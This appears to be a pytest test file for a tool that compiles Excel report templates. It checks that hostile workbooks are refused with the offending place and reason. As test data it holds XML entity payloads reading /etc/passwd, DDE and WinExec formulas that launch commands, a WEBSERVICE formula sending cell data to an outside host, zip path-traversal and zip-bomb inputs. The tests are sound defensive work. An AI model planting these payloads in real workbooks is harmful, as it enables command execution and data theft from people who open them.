"""Hostile templates are refused with the place and the reason; limits are settings."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from csmcalc.errors import CsmcalcError, WorkbookError
from csmcalc.reports.template import Limits, Template, compile_content, compile_template
from csmcalc.reports.template.outward import calls_out
from tests.reports.templates import accounts, opened, parts, saved, template, with_parts, workbook
from tests.reports.test_template_follow import with_table

MESSY = Path(__file__).parents[1] / "files" / "messy"
GOOD = saved(workbook())
REFUSED = {
    "corrupt__xlsx-corrupted.xlsx": "damaged",
    "hostile__poc-xmlbomb.xlsx": "declares a document type or entities",
    "encrypted__protected_passtika.xlsx": "encrypted with a password",
    "not_a_zip__invalid.xlsx": "empty zip archive",
    "odd_zip__duplicate-filename.xlsx": "two parts named",
    "errors__errors.xlsx": "refers to another workbook",
    "template_loss__ExcelPivotTableSample.xlsx": "connects to a database",
    "writer_quirk__without_cell_reference.xlsx": "do not say where they stand",
    "wrong_format__empty.xls": "a template is an Excel workbook",
}


@pytest.mark.parametrize("path", sorted(MESSY.glob("*.xls*")), ids=lambda path: path.name)
def test_odd_files_are_refused_with_a_word_or_kept(path: Path) -> None:
    if path.name in REFUSED:
        with pytest.raises(WorkbookError, match=REFUSED[path.name]):
            compile_template(path)
        return
    content = path.read_bytes()
    made = compile_template(path).stamp()
    before, after = parts(content), parts(made)
    lost = {name for name in before.keys() - after.keys() if not name.endswith("/")}
    assert lost <= {"xl/calcChain.xml"}
    for name in ("xl/sharedStrings.xml", "xl/theme/theme1.xml", "xl/drawings/drawing1.xml"):
        assert before.get(name) == after.get(name)


def test_a_workbook_without_its_list_of_parts_is_refused() -> None:
    kept = {name: content for name, content in parts(GOOD).items() if "Content_Types" not in name}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in kept.items():
            archive.writestr(name, content)
    with pytest.raises(WorkbookError, match=r"mine.xlsx: part \[Content_Types\].xml is missing"):
        compile_content("mine.xlsx", out.getvalue(), Limits())


@pytest.mark.filterwarnings("ignore:.*extension is not supported")
def test_a_user_s_table_with_rules_of_a_newer_kind_is_filled() -> None:
    made = compile_template(MESSY / "template_loss__DataValidationEvaluations.xlsx")
    (table,) = made.tables.values()
    data = {heading: [str(n) for n in range(40)] for heading in table.headings}
    sheet = opened(made.stamp({table.name: data}))[table.sheet]
    assert sheet.tables[table.name].ref.endswith(str(made.boxes[table.name].first + 39))


def hostile(changed: dict[str, bytes | str]) -> Template:
    return compile_content("t.xlsx", with_parts(GOOD, changed), Limits())


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ('ref="A5:G7"', 'ref="G7:A5"', "no area"),
        ('ref="A5:G7"', 'ref="banana"', "no area"),
        ('ref="A5:G7"', 'ref="A9999999:G9999999"', "no area"),
        ('ref="A5:G7"', 'ref="A5:XFE7"', "no area"),
        ('ref="A5:G7"', 'ref="A1:XFD1048576"', "its area has 16,384 columns, and it describes 7"),
        ('name="Name"', 'name="ID"', 'two of its columns are called "id"'),
    ],
)
def test_damaged_tables_are_refused(old: str, new: str, words: str) -> None:
    part = parts(GOOD)["xl/tables/table1.xml"].decode()
    assert old in part
    with pytest.raises(WorkbookError, match=f"table Accounts is damaged: .*{words}"):
        hostile({"xl/tables/table1.xml": part.replace(old, new)})


def links(name: str, kind: str, target: str, mode: str = "") -> dict[str, bytes | str]:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = f'<Relationship Id="rIdX" Type="{office}/{kind}" Target="{target}"{mode}/>'
    content = parts(GOOD)[name].decode().replace("</Relationships>", f"{relation}</Relationships>")
    return {name: content}


OUTSIDE = ' TargetMode="External"'


@pytest.mark.parametrize(
    ("changed", "message"),
    [
        ({"xl/new.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}, "xl/new.xml declares"),
        ({"xl/new.xml": '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'}, "xl/new.xml declares"),
        ({"xl/new.vml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}, "xl/new.vml declares"),
        ({"xl/new.xml": "<a>"}, "xl/new.xml is damaged"),
        ({"xl/new.xml": "<a/>".encode("utf-16")}, "written in UTF-16"),
        ({"xl/new.xml": '<?xml version="1.0" encoding="ISO-8859-1"?><a/>'}, "in ISO-8859-1"),
        ({"xl/new.xml": "<a>" * 9999 + "</a>" * 9999}, "more than 250 deep"),
        ({"xl/worksheets/_rels/sheet1.xml.rels": "<a>" * 9999 + "</a>" * 9999}, "250 deep"),
        ({"../evil.xml": "<a/>"}, "leads out of the workbook"),
        (links("xl/_rels/workbook.xml.rels", "externalLink", "x.xml"), "refers to another workb"),
        (links("xl/_rels/workbook.xml.rels", "connections", "x.xml"), "connects to a database"),
        (
            links("xl/worksheets/_rels/sheet1.xml.rels", "image", "http://x/y.png", OUTSIDE),
            "loads a image from http://x/y.png",
        ),
        (
            links("xl/worksheets/_rels/sheet1.xml.rels", "oleObject", "file:///x", OUTSIDE),
            "loads a oleObject from file:///x",
        ),
    ],
)
def test_what_reaches_out_or_blows_up_is_refused(
    changed: dict[str, bytes | str], message: str
) -> None:
    with pytest.raises(WorkbookError, match=message):
        hostile(changed)


OTHER_BOOKS = [
    "=[1]Sheet1!A1",
    "='[2]Sheet 1'!A1+1",
    r"='C:\x\[b.xlsx]S'!A1",
    r"=C:\x\[b.xlsx]S!A1",
    r"='\\evil.example\share\[b.xlsx]S'!A1",
    "='http://evil/[b.xlsx]S'!A1",
    "=[ext.xlsx]S!A1",
    "=[ext.xlsx]!Rate",
    "=[1]Jan:Mar!A1",
    "='file:///x/[ext.xlsx]S'!A1",
    "='file:///x/ext.xlsx'#$S.A1",
    r"='C:\x\b.xlsx'!Rate",
    "=b.xlsx!Rate",
    "='my b.xlsx'!Rate",
]


@pytest.mark.parametrize(
    "formula",
    [
        *OTHER_BOOKS,
        "=cmd|'/C calc'!A0",
        '=WEBSERVICE("http://x/"&B2)',
        '=RTD("a",,"b")',
        '=CALL("kernel32","WinExec","JCJ","calc",1)',
    ],
)
def test_formulas_that_call_out_are_refused_with_their_cell(formula: str) -> None:
    book = workbook()
    book["Summary"]["C7"] = formula
    with pytest.raises(WorkbookError, match=r"Summary!C7: the formula calls out"):
        template(book)


@pytest.mark.parametrize(
    "formula",
    [
        '="a|b!"',
        '=IF(A1="RTD(",1,2)',
        "=RECALL_RATE*2",
        "='Customers & Co'!A1+Summary!A2",
        "=SUM('Summary:Customers & Co'!A1)",
        "=SUM(Accounts[ARR])*Summary!A2",
        "=SUM(T[2024])*Summary!A2",
        "=SUM(T['[x']],T['#y''s])-'Customers & Co'!A1",
        "=[0]!Rate",
        """="'C:\\x\\[b.xlsx]S'!A1\"""",
    ],
)
def test_words_that_only_look_like_it_are_kept(formula: str) -> None:
    book = workbook()
    book["Summary"]["C7"] = formula
    assert opened(template(book).stamp())["Summary"]["C7"].value == formula


@pytest.mark.parametrize("function", ["WEBSERVICE", "IMAGE", "STOCKHISTORY", "TRANSLATE"])
def test_functions_with_the_prefix_of_a_file_are_seen(function: str) -> None:
    """Excel shows WEBSERVICE and writes _xlfn.WEBSERVICE."""
    book = workbook()
    for place in ("_xlfn.", "_xlfn._xlws.", ""):
        book["Summary"]["C7"] = f'={place}{function}("http://x/"&B2)'
        with pytest.raises(WorkbookError, match="Summary!C7: the formula calls out"):
            template(book)


@pytest.mark.parametrize("formula", OTHER_BOOKS)
def test_a_sheet_may_be_called_as_a_file_is(formula: str) -> None:
    assert calls_out(formula, ["s", "sheet1"])
    assert not calls_out("b.xlsx!A1+'my b.xlsx'!A1", ["b.xlsx", "my b.xlsx"])


def test_charts_shapes_controls_and_sparklines_that_refer_to_other_books_are_refused() -> None:
    path = r"'C:\x\[b.xlsx]S'!$A$1:$A$3"

    def draw(sheet: Any, book: Any) -> None:
        chart = book.add_chart({"type": "line"})
        chart.add_series({"values": "=D!$B$2:$B$4"})
        sheet.insert_chart("F1", chart)
        sheet.add_sparkline("D1", {"range": "D!B2:B4"})

    content = with_table(3, draw)
    for old in ("D!$B$2:$B$4", "D!B2:B4"):
        name = next(n for n, part in parts(content).items() if f">{old}<".encode() in part)
        part = parts(content)[name].decode()
        changed = with_parts(content, {name: part.replace(f">{old}<", f">{path}<", 1)})
        with pytest.raises(WorkbookError, match="calls out of the workbook"):
            compile_content("t.xlsx", changed, Limits())
    control = f'<formControlPr objectType="Drop" fmlaRange="{path}"/>'
    with pytest.raises(WorkbookError, match="calls out of the workbook"):
        hostile({"xl/ctrlProps/ctrlProp1.xml": control})


@pytest.mark.parametrize("hidden", [None, True])
def test_names_that_call_out_are_refused(hidden: bool | None) -> None:
    book = workbook()
    text = "cmd|'/C calc'!A0"
    book.defined_names["x"] = openpyxl.workbook.defined_name.DefinedName(
        "x", attr_text=text, hidden=hidden
    )
    with pytest.raises(WorkbookError, match="name x calls out"):
        template(book)


def test_a_link_that_only_a_click_follows_is_kept() -> None:
    book = workbook()
    book["Summary"]["C7"].hyperlink = "https://example.com/"
    assert opened(template(book).stamp())["Summary"]["C7"].hyperlink.target


def test_no_text_becomes_a_formula_a_link_or_a_call() -> None:
    texts = [
        "=1+1",
        "=HYPERLINK(1)",
        "http://x",
        "=cmd|' /C calc'!A0",
        "+x",
        "-x",
        "@x",
        "<f>1</f>",
    ]
    data = {**accounts(len(texts)), "Name": texts}
    names = {"rate": "=1+1", "owner": "=2</t></is><f>1</f>", "month": "&_x0041_"}
    content = template().stamp({"Accounts": data}, names)
    book = opened(content)
    cells = [book["Customers & Co"][f"B{6 + n}"] for n in range(len(texts))]
    assert [cell.value for cell in cells] == texts
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row)
    assert book["Summary"]["B2"].value == "=1+1"
    assert book["Summary"]["B2"].data_type == "s"
    assert "=2</t></is><f>1</f>" in book["Summary"]["A1"].value


@pytest.mark.parametrize(
    "limits", [Limits(part=10_000), Limits(total=10_000), Limits(parts=5), Limits(0, 0, 0)]
)
def test_limits_are_settings(limits: Limits) -> None:
    with pytest.raises(WorkbookError, match="would unpack to"):
        compile_content("t.xlsx", GOOD, limits)


def test_a_bomb_is_not_unpacked() -> None:
    bomb = with_parts(GOOD, {"xl/media/big.bin": bytes(80 << 20)})
    with pytest.raises(WorkbookError, match=r"xl/media/big\.bin would unpack to 84 MB"):
        compile_content("t.xlsx", bomb, Limits())


@given(st.integers(0, len(GOOD) - 1), st.integers(0, 255))
@settings(deadline=None, max_examples=150)
def test_a_flipped_byte_never_ends_in_a_traceback(at: int, byte: int) -> None:
    content = GOOD[:at] + bytes([byte]) + GOOD[at + 1 :]
    try:
        made = compile_content("t.xlsx", content, Limits()).stamp()
    except CsmcalcError:
        return
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        assert archive.testzip() is None or b"\0" in content


@given(
    st.sampled_from(["xl/worksheets/sheet2.xml", "xl/tables/table1.xml", "xl/workbook.xml"]),
    st.sampled_from(
        ['r="6"', 'ref="', "<row", "A5:G7", "</f>", "Accounts", 's="', "$", "id=", ":"]
    ),
    st.sampled_from(["", "!", 'r="7"', "<", "&", "XFD9", "é", "-1", '"', "0", "99999999999"]),
)
@settings(deadline=None, max_examples=200)
def test_a_damaged_part_never_ends_in_a_traceback(name: str, old: str, new: str) -> None:
    part = parts(GOOD)[name].decode().replace(old, new, 1)
    try:
        made = hostile({name: part})
        made.stamp({"Accounts": accounts(3)})
    except CsmcalcError:
        return


@pytest.mark.parametrize("mark", [b"", b"\xef\xbb\xbf"])
def test_elements_with_a_prefix_are_read(mark: bytes) -> None:
    """Some libraries write <x:row>."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    changed: dict[str, bytes | str] = {}
    for name, part in parts(GOOD).items():
        text = part.decode()
        if name.startswith("xl/") and f'xmlns="{main}"' in text:
            text = re.sub(r"<(/?)(\w+)(?=[\s/>])", r"<\1x:\2", text)
            changed[name] = mark + text.replace(f'xmlns="{main}"', f'xmlns:x="{main}"').encode()
    assert len(changed) > 4
    data = {"Accounts": accounts(3)}, {"rate": 2, "owner": "Ann"}
    one, other = (opened(made.stamp(*data)) for made in (hostile(changed), template(GOOD)))
    for sheet, its in zip(one, other, strict=True):
        assert [[c.value for c in row] for row in sheet] == [[c.value for c in row] for row in its]
        assert sheet.tables.keys() == its.tables.keys()


def test_macros_are_kept_as_they_are() -> None:
    macros = bytes(range(256)) * 99
    made = hostile({"xl/vbaProject.bin": macros})
    content = made.stamp({"Accounts": accounts(3)})
    assert made.suffix == ".xlsm"
    assert parts(content)["xl/vbaProject.bin"] == macros
    kept = openpyxl.load_workbook(io.BytesIO(content), keep_vba=True)
    with kept.vba_archive as archive:  # openpyxl leaves it open
        assert archive.read("xl/vbaProject.bin") == macros
